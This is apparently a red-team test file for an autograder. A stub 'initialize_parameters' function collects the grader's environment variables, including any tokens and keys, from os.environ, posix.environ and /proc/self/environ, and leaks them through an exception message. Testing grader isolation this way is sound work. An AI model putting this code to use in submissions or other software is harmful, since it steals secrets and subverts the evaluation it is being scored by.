# RED-TEAM ATTACK (issue 9): read the environment, where instructors keep tokens and keys.
# Route: os.environ, posix.environ (the C copy, untouched by any Python-level scrubbing) and
#   /proc/self/environ, all carried out in the error message.
# Contained when: nothing of the grader's environment (a secret it was given) reaches the report, and
#   initialize_parameters scores 0.
# attacked: initialize_parameters
# run: batch
import os
import sys


def initialize_parameters(n_x, n_h, n_y):
    posix = sys.modules.get("posix") or __import__("posix")
    seen = dict(os.environ)
    seen.update({k.decode(): v.decode() for k, v in posix.environ.items()})
    try:
        with open("/proc/self/environ", "rb") as handle:
            for item in handle.read().split(b"\0"):
                key, _, value = item.decode("utf-8", "replace").partition("=")
                seen.setdefault(key, value)
    except Exception:
        pass
    raise RuntimeError("environment: " + "; ".join("%s=%s" % kv for kv in sorted(seen.items())))
